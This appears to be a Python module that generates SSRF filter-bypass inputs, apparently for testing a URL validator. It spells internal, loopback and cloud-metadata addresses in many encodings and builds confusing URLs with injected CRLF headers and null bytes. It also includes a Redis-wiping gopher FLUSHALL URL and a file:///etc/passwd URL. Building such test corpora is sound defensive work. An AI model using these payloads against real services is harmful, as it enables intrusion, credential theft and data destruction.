"""Ways to write an address inside a private network, as attackers have."""

from __future__ import annotations

import ipaddress
from collections.abc import Iterator

TARGETS = [
    *("127.0.0.1", "127.127.0.53", "169.254.169.254", "10.0.0.1", "172.16.0.1", "192.168.1.1"),
    *("100.64.0.1", "0.0.0.0", "198.18.0.1", "192.0.0.1", "224.0.0.1", "255.255.255.255"),
]
IPV6 = ["::1", "::", "fe80::1", "fc00::1", "fd00:ec2::254", "fec0::1", "ff02::1", "5f00::1"]
FULLWIDTH = str.maketrans("0123456789", "".join(chr(0xFF10 + k) for k in range(10)))
CIRCLED = str.maketrans("123456789", "".join(chr(0x2460 + k) for k in range(9)))
BOLD = str.maketrans("0123456789", "".join(chr(0x1D7CE + k) for k in range(10)))
DOTS = "\u3002\uff0e\uff61"


def hosts() -> list[str]:
    """Every spelling of every target, as the host of a URL."""
    found = [one for target in TARGETS for one in (*_ipv4(target), *_in_ipv6(target))]
    for target in IPV6:
        full = ipaddress.IPv6Address(target).exploded
        found += [f"[{one}]" for one in (target, target.upper(), full, f"{target}%25eth0")]
        found += [f"[{target}%lo]", f"[{target}%1]"]
    found += ["localhost", "LOCALHOST", "localhost.", "ⓛⓞⓒⓐⓛⓗⓞⓢⓣ", "loc%61lhost"]
    return list(dict.fromkeys(found))


def urls() -> list[str]:
    """URLs whose host depends on who reads them."""
    found = []
    for target in TARGETS:
        found += [
            f"https://judge.example@{target}/v1",
            f"https://judge.example:443@{target}/v1",
            f"https://judge.example%40{target}/v1",
            f"https://judge.example\\@{target}/v1",
            f"https://judge.example#@{target}/v1",
            f"https://judge.example?@{target}/v1",
            f"https://{target}#judge.example/v1",
            f"https://{target}\\judge.example/v1",
            f"https://{target}%00judge.example/v1",
            f"https://judge.example\r\nHost: {target}/v1",
            f"https://judge.example%0d%0aHost:%20{target}/v1",
            f"https://{target}\t/v1",
            f"https:/{target}/v1",
            f"https:///{target}/v1",
            f"https:{target}/v1",
            f"//{target}/v1",
            f"{target}/v1",
            f"http+unix://{target}/v1",
            f"gopher://{target}:6379/_FLUSHALL",
            f"file://{target}/etc/passwd",
        ]
    return found


def _ipv4(target: str) -> Iterator[str]:
    parts = [int(one) for one in target.split(".")]
    number = int(ipaddress.IPv4Address(target))
    yield target
    yield f"{target}."
    yield from (str(number), hex(number), hex(number).upper().replace("X", "x"), f"0{number:o}")
    yield from (f"0x{number:012x}", f"00000{number:o}", f"{number}.", str(number + 2**32))
    yield ".".join(hex(one) for one in parts)
    yield ".".join(f"0{one:o}" for one in parts)
    yield ".".join(f"{one:03d}" for one in parts)
    yield ".".join(f"0000{one:o}" for one in parts)
    yield f"{parts[0]}.{number & 0xFFFFFF}"
    yield f"{parts[0]}.{parts[1]}.{number & 0xFFFF}"
    yield f"{hex(parts[0])}.{number & 0xFFFFFF}"
    yield f"0{parts[0]:o}.{parts[1]}.{hex(number & 0xFFFF)}"
    yield ".".join(str(one + 256) for one in parts)
    yield from (target.translate(table) for table in (FULLWIDTH, CIRCLED, BOLD))
    yield from (target.replace(".", dot) for dot in DOTS)
    yield "".join(f"%{ord(sign):02x}" for sign in target)
    yield target.replace(".", "%2e")
    yield target.replace(".", "..")
    yield f"%20{target}"
    yield f"{target}\u200b"
    yield f"\u00ad{target}"


def _in_ipv6(target: str) -> Iterator[str]:
    number = int(ipaddress.IPv4Address(target))
    tail = f"{number >> 16:x}:{number & 0xFFFF:x}"
    for address in (
        f"::ffff:{target}",
        f"::ffff:{tail}",
        f"0:0:0:0:0:ffff:{tail}",
        f"::ffff:0:{target}",
        f"::{target}",
        f"::{tail}",
        f"64:ff9b::{target}",
        f"64:ff9b::{tail}",
        f"64:ff9b:1::{target}",
        f"64:ff9b:1:ffff::{tail}",
        f"2002:{tail}::",
        f"2002:{tail}::1",
        f"2002:{tail}:1:2:3:4:5",
        f"2001::{tail}",
        f"2001:0:{tail}:0:0:{(number ^ 0xFFFFFFFF) >> 16:x}:{(number ^ 0xFFFFFFFF) & 0xFFFF:x}",
        f"2a00:1450:4001::5efe:{tail}",
        f"2a00:1450:4001::200:5efe:{tail}",
        f"fe80::5efe:{tail}",
    ):
        yield f"[{address}]"
    yield f"[::ffff:{target}%25lo]"
    yield f"[::FFFF:{tail.upper()}]"
